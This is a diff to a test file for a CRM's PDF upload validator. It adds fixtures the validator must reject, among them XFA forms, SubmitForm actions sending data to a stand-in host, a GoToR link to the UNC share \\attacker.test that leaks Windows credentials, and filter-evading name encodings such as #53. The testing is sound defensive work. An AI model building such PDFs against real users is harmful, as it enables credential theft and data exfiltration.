@@ -1,5 +1,6 @@
 """A PDF uploaded as evidence is refused when it carries anything that acts on its own (crm.uploads): JavaScript, an
-action run when it is opened or read, a program started, files embedded in it. Each PDF is a real one, written by
+action run when it is opened or read, a program started, files embedded in it, an XFA form, a form action that sends
+or loads data, rich media, a link into another PDF (elsewhere or embedded). Each PDF is a real one, written by
 pypdf's writer, or laid out with its objects compressed in an object stream, where no byte of them can be read."""
 
 import html
@@ -10,14 +11,21 @@ import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import translation
 from pypdf.actions import JavaScript, PageTrigger
-from pypdf.generic import NameObject
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 from crm.errors import EvidenceInvalid
 from crm.models import Case, CaseEvidence
 from crm.services.cases import case_open
 from crm.services.casework import evidence_add
 from tests.factories import AgentFactory, OrderFactory, StoreFactory
-from tests.pdfs import PDF, action, launch_link, pdf_bytes, pdf_with_object_stream
+from tests.pdfs import PDF, action, annotation, launch_link, link, pdf_bytes, pdf_with_object_stream
 
 pytestmark = pytest.mark.django_db
 
@@ -28,6 +36,16 @@ AUTOMATIC = (
 LAUNCH = "Photo: the PDF can start a program or open another file; such a PDF is not accepted."
 EMBEDDED = "Photo: the PDF carries files embedded in it; such a PDF is not accepted."
 PASSWORD = "Photo: the PDF is protected by a password, so its contents cannot be checked."
+XFA = "Photo: the PDF is an XFA form, which can run scripts and reach servers when it is opened; such a PDF is not"
+SENDS_DATA = (
+    "Photo: the PDF carries a form action that sends what is in it to another place, or loads data from another "
+    "file; such a PDF is not accepted."
+)
+MEDIA = "Photo: the PDF carries rich media (Flash or 3D content) that the PDF reader would play; such a PDF is not"
+OTHER_PDF = (
+    "Photo: the PDF has a link that opens another PDF, stored elsewhere or embedded in a file; such a PDF is not "
+    "accepted."
+)
 
 
 @pytest.fixture(autouse=True)
@@ -46,6 +64,27 @@ def case():
 
 def _stored_files(root: Path) -> list[Path]:
     return [path for path in root.rglob("*") if path.is_file()]
+
+
+def _xfa_form(writer):
+    """An AcroForm whose form is XFA: the reader runs the XML form (its scripts, its connections) instead."""
+    packet = DecodedStreamObject()
+    packet.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
+    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(packet)}
+    )
+
+
+def _rich_media(writer):
+    """A RichMedia annotation: a SWF the reader's Flash (or 3D) player would run."""
+    content = DictionaryObject({NameObject("/Type"): NameObject("/RichMediaContent")})
+    annotation(writer, "/RichMedia", RichMediaContent=content)
+
+
+def _embedded_go_to(writer):
+    """A link to a PDF attached to the document (/GoToE, its target /T a named attachment)."""
+    target = DictionaryObject({NameObject("/R"): NameObject("/C"), NameObject("/N"): TextStringObject("x.pdf")})
+    link(action("/GoToE", T=target, D=ArrayObject([NumberObject(0), NameObject("/Fit")])))(writer)
 
 
 def _encrypted(writer):
@@ -80,6 +119,55 @@ HOSTILE = {
     ),
     "launch-in-an-object-stream": (pdf_with_object_stream(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), LAUNCH),
     "password": (pdf_bytes(_encrypted), PASSWORD),
+    "xfa-form": (pdf_bytes(_xfa_form), XFA),
+    "xfa-form-in-an-object-stream": (
+        pdf_with_object_stream(b"/AcroForm<</Fields[]/XFA[(template)(<template/>)]>>"),
+        XFA,
+    ),
+    "submit-form-link": (pdf_bytes(link(action("/SubmitForm", F="https://x.test/collect"))), SENDS_DATA),
+    # A form's button: a widget annotation whose /A sends the form, in an object stream, /S written as #53.
+    "submit-form-button-in-an-object-stream": (
+        pdf_with_object_stream(
+            page_entries=b"/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 200 200]"
+            b"/A<</#53/SubmitForm/F(https://x.test/collect)>>>>]"
+        ),
+        SENDS_DATA,
+    ),
+    "import-data-link": (pdf_bytes(link(action("/ImportData", F="data.fdf"))), SENDS_DATA),
+    "import-data-on-a-page-in-an-object-stream": (
+        pdf_with_object_stream(
+            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/ImportData/F(data.fdf)>>>>]"
+        ),
+        SENDS_DATA,
+    ),
+    "rich-media": (pdf_bytes(_rich_media), MEDIA),
+    "rich-media-in-an-object-stream": (
+        pdf_with_object_stream(
+            page_entries=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 200 200]/RichMediaContent<<>>>>]"
+        ),
+        MEDIA,
+    ),
+    # A share's address: a reader that opens it hands the network the Windows user's credentials.
+    "remote-go-to-link": (
+        pdf_bytes(link(action("/GoToR", F="\\\\attacker.test\\share\\x.pdf", D=ArrayObject([NumberObject(0)])))),
+        OTHER_PDF,
+    ),
+    "remote-go-to-in-an-object-stream": (
+        pdf_with_object_stream(
+            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/GoTo#52/F(x.pdf)/D[0/Fit]>>>>]"
+        ),
+        OTHER_PDF,
+    ),
+    # Following another action (/Next): a plain link to a web page, then the remote go-to.
+    "remote-go-to-after-a-uri": (
+        pdf_bytes(link(action("/URI", URI="https://x.test/", Next=action("/GoToR", F="x.pdf")))),
+        OTHER_PDF,
+    ),
+    "embedded-go-to-link": (pdf_bytes(_embedded_go_to), OTHER_PDF),
+    "embedded-go-to-in-an-object-stream": (
+        pdf_with_object_stream(b"/Names<</Dests<</Names[(x)<</S/GoToE/T<</R/C/N(x.pdf)>>/D[0/Fit]>>]>>>>"),
+        OTHER_PDF,
+    ),
 }
 
 
@@ -114,6 +202,24 @@ def test_the_refusal_is_a_400_naming_the_photo_field_in_chinese_too(case):
 
 
 @pytest.mark.parametrize(
+    ("hostile", "says"),
+    [
+        ("xfa-form", "照片:该 PDF 是 XFA 表单"),
+        ("submit-form-link", "照片:该 PDF 带有表单动作"),
+        ("rich-media", "照片:该 PDF 含有富媒体"),
+        ("remote-go-to-link", "照片:该 PDF 含有打开另一个 PDF 的链接"),
+    ],
+    ids=["xfa", "submit-form", "rich-media", "remote-go-to"],
+)
+def test_the_newer_refusals_name_the_photo_field_in_chinese(case, hostile, says):
+    with translation.override("zh-hans"), pytest.raises(EvidenceInvalid) as refused:
+        evidence_add(case=case, actor=case.assignee.user, photo=SimpleUploadedFile("r.pdf", HOSTILE[hostile][0]))
+
+    assert (refused.value.http_status, refused.value.field) == (400, "photo")
+    assert refused.value.message.startswith(says)
+
+
+@pytest.mark.parametrize(
     "content",
     [
         PDF,
@@ -121,11 +227,35 @@ def test_the_refusal_is_a_400_naming_the_photo_field_in_chinese_too(case):
         # Opening at a page is a destination, not an action.
         pdf_bytes(lambda w: setattr(w, "open_destination", w.pages[0])),
         # Text that names JavaScript in a string is not JavaScript.
-        pdf_bytes(lambda w: w.add_metadata({"/Title": "/JavaScript /JS /Launch /AA /OpenAction"})),
+        pdf_bytes(
+            lambda w: w.add_metadata({"/Title": "/JavaScript /JS /Launch /AA /OpenAction /XFA /SubmitForm /GoToR"})
+        ),
         # A password only to print or edit it: it opens without one, and is read as a reader reads it.
         pdf_bytes(lambda w: w.encrypt(user_password="", owner_password="owner", algorithm="AES-128")),
+        # A link to a web page is a link: the reader asks before opening it, and it acts only when clicked.
+        pdf_bytes(link(action("/URI", URI="https://x.test/"))),
+        pdf_bytes(link(action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")])))),
+        # A plain form (AcroForm, no XFA) is fields on the page.
+        pdf_bytes(
+            lambda w: w.root_object.update(
+                {NameObject("/AcroForm"): DictionaryObject({NameObject("/Fields"): ArrayObject()})}
+            )
+        ),
+        pdf_with_object_stream(
+            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(https://x.test/)>>>>]"
+        ),
     ],
-    ids=["plain", "object-stream", "open-at-a-page", "words-in-a-string", "owner-password-only"],
+    ids=[
+        "plain",
+        "object-stream",
+        "open-at-a-page",
+        "words-in-a-string",
+        "owner-password-only",
+        "link-to-a-web-page",
+        "link-to-a-page",
+        "form-without-xfa",
+        "link-to-a-web-page-in-an-object-stream",
+    ],
 )
 def test_a_clean_pdf_is_stored_and_served_as_a_download(client, case, tmp_path, content):
     _post(client, case, "receipt.pdf", content)
